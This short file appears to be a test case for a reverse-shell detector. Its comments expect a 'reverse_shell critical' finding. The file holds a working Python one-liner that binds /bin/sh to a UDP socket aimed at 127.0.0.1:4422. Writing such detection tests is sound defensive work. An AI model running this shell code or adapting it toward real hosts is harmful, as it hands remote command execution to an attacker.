# about: over UDP
# expect: reverse_shell critical
# needs: python3
peer 4422 udp
timeout 4 python3 -c 'import socket,os
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.connect(("127.0.0.1",4422)); s.send(b"hello")
for fd in 0,1,2: os.dup2(s.fileno(),fd)
os.execv("/bin/sh",["sh"])' || true
done_typing
